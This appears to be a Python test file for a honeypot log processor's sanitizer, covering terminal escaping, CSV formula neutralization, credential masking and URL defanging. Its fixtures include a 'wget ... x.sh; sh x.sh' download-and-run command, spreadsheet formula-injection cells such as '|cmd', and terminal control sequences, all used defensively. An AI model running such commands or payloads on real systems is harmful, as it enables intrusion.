"""Escaping of attacker-controlled text."""

from __future__ import annotations

import re
import time
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cowrieprocessor.sanitize import (
    csv_safe,
    defang,
    defang_all,
    inert,
    inert_cut,
    inert_key,
    mask_credentials,
    restore,
    terminal_safe,
    visible,
)

ANY_TEXT = st.text(st.characters(codec=None))
HARMFUL = st.text(
    st.sampled_from("\x00\x07\x08\x1b\r\n\t\x7f\x85\x9b\u200b\u202e\u2066\ufeff\u2028\\x1bu\ud800\U000e0041a")
)


def _unsafe_characters(text: str) -> list[str]:
    """Return the characters of a text that a terminal would interpret, hide or reorder, by Unicode category."""
    return [
        character
        for character in text
        if unicodedata.category(character) in ("Cc", "Cs", "Zl", "Zp")
        or unicodedata.bidirectional(character) in ("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI")
        or character in "\u061c\u200e\u200f\u200b\ufeff"
    ]


@given(st.one_of(ANY_TEXT, HARMFUL))
def test_inert_text_is_harmless_and_can_be_restored(text: str) -> None:
    """Every text becomes valid UTF-8 without unsafe characters, and can be restored."""
    safe = inert(text)
    assert not _unsafe_characters(safe)
    safe.encode()
    assert text == restore(safe)


@given(st.one_of(ANY_TEXT, HARMFUL), st.integers(12, 40))
def test_cut_text_keeps_its_limit_and_whole_escapes(text: str, limit: int) -> None:
    """A truncated text respects the limit, is a prefix of the whole text, and does not end within an escape."""
    cut = inert_cut(text, limit)
    assert len(cut) <= limit
    if cut == inert(text):
        return
    assert cut.endswith("…")
    assert text.startswith(restore(cut[:-1]))


@given(st.one_of(ANY_TEXT, HARMFUL))
def test_terminal_text_is_harmless_and_stable(text: str) -> None:
    """Text for a terminal has no unsafe character, and escaping it again changes nothing."""
    safe = terminal_safe(text)
    assert not _unsafe_characters(safe)
    assert safe == terminal_safe(safe)


@given(st.one_of(ANY_TEXT, HARMFUL))
def test_visible_text_has_each_backslash_once(text: str) -> None:
    """What was typed without a control character is shown as it was typed, with each backslash once."""
    printable = "".join(character for character in text if inert(character) in (character, "\\\\"))

    assert visible(inert(printable)) == printable
    assert visible(inert("a\nb")) == r"a\x0ab"


@given(st.one_of(ANY_TEXT, HARMFUL), st.one_of(ANY_TEXT, HARMFUL), st.integers(60, 80))
def test_keys_of_different_texts_differ(one: str, other: str, limit: int) -> None:
    """A key fits its column, and two texts have one key only if they are equal."""
    assert len(inert_key(one, limit)) <= limit
    assert (inert_key(one, limit) == inert_key(other, limit)) == (one == other)
    assert inert_key("x" * 100 + one, limit) != inert_key("x" * 100 + one + "y", limit)


def test_terminal_text_shows_inert_text_unchanged() -> None:
    """Text that was escaped for storage is not escaped a second time."""
    assert inert("\x1b\\") == terminal_safe(inert("\x1b\\")) == "\\x1b\\\\"


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@x",
        "\t=1",
        "\r=1",
        " =1",
        "|cmd",
        "＝1",
        "＋1",
        "－1",
        "＠x",
        "\u00a0=1",
        "a;=1",
        "a; \t@x",
    ],
)
def test_csv_cell_is_no_formula(text: str) -> None:
    """A cell that a spreadsheet could evaluate gets an apostrophe, or its control character is escaped."""
    cell = csv_safe(text)
    assert not cell.lstrip().startswith(("=", "+", "-", "@", "|", "＝", "＋", "－", "＠"))
    assert not re.search(r";\s*[=+\-@|]", cell)
    assert not _unsafe_characters(cell)


@pytest.mark.parametrize("text", ["", "root", "a=b", "1+1", "x-y", "a; b"])
def test_csv_cell_of_plain_text_is_left_alone(text: str) -> None:
    """Text that is not a formula is not changed."""
    assert text == csv_safe(text)


@pytest.mark.parametrize(
    ("url", "masked"),
    [
        ("ftp://user:secret@198.51.100.7/x", "ftp://***@198.51.100.7/x"),
        ("http://a@b:c@198.51.100.7/", "http://***@198.51.100.7/"),
        ("//user@host/x", "//***@host/x"),
        ("http://198.51.100.7/a@b", "http://198.51.100.7/a@b"),
        ("http://198.51.100.7?m=a@b", "http://198.51.100.7?m=a@b"),
        ("/tmp/a@b", "/tmp/a@b"),
    ],
)
def test_credentials_in_a_url_are_masked(url: str, masked: str) -> None:
    """User and password before the host are masked; an @ elsewhere is kept."""
    assert masked == mask_credentials(url)


@pytest.mark.parametrize(
    ("url", "defanged"),
    [
        ("http://198.51.100.7/x.sh", "hxxp://198[.]51[.]100[.]7/x.sh"),
        ("HTTPS://Example.org:8443/a.b", "hxxpS://Example[.]org:8443/a.b"),
        ("ftp://u:p@example.org/x", "fxp://***@example[.]org/x"),
        ("tftp://example.org/x", "tfxp://example[.]org/x"),
        ("sftp://example.org/x", "sftp://example[.]org/x"),
        ("http://[2001:db8::1]/x", "hxxp://[2001:db8::1]/x"),
        ("/tmp/x.sh", "/tmp/x.sh"),
        ("http://a.b/c?d=http://e.f/g", "hxxp://a[.]b/c?d=hxxp://e[.]f/g"),
        ("http://a\x1b[31m.b/\r", "hxxp://a\\x1b[31m[.]b/\\x0d"),
    ],
)
def test_a_defanged_url_is_no_link(url: str, defanged: str) -> None:
    """The scheme and the dots of the host are replaced, the path stays readable."""
    assert defanged == defang(url)


@pytest.mark.parametrize(
    ("text", "defanged"),
    [
        ("wget http://198.51.100.7/x.sh; sh x.sh", "wget hxxp://198[.]51[.]100[.]7/x.sh; sh x.sh"),
        ("curl 'ftp://u:p@a.b/c' \"https://d.e\"", "curl 'fxp://***@a[.]b/c' \"hxxps://d[.]e\""),
        (" http://a.b", " hxxp://a[.]b"),
        ("xhttp://a.b", "xhxxp://a[.]b"),
        ("http://a.b/?u=http://c.d/e", "hxxp://a[.]b/?u=hxxp://c[.]d/e"),
        ("http://http://u:p@a.b", "hxxp://hxxp://***@a[.]b"),
        ("[link=https://a.b]x[link=FTPS://c.d]", "[link=hxxps://a[.]b]x[link=fxPS://c[.]d]"),
        ("://a.b //c.d /tmp//e.f", "://a[.]b //c.d /tmp//e.f"),
        ("no url. at all", "no url. at all"),
        ("\x1b]8;;http://a.b\x07", "\\x1b]8;;hxxp://a[.]b\\x07"),
    ],
)
def test_urls_inside_a_text_are_defanged(text: str, defanged: str) -> None:
    """A command keeps its words, but none of its URLs remains a link or contains a password."""
    assert defanged == defang_all(text)


@given(st.one_of(ANY_TEXT, HARMFUL))
def test_defanging_leaves_no_link_and_no_unsafe_character(text: str) -> None:
    """No http or ftp link and no unsafe character remains in any text."""
    safe = defang_all(f"{text}http://a.b/{text} ftp://x:y@c.d")
    assert not _unsafe_characters(safe)
    assert not re.search(r"(?:http|ftp)s?://", safe, re.IGNORECASE)
    assert "x:y@" not in safe


@pytest.mark.parametrize("text", ["a" * 300_000, "a:" * 150_000, "a://" * 75_000, "\\" * 300_000, ";" * 300_000])
def test_time_is_linear_in_the_length(text: str) -> None:
    """No text of 300 kB takes more than seconds; a quadratic search would take minutes."""
    start = time.process_time()
    for function in (inert, terminal_safe, csv_safe, defang, defang_all, mask_credentials):
        function(text)
    assert time.process_time() - start < 10
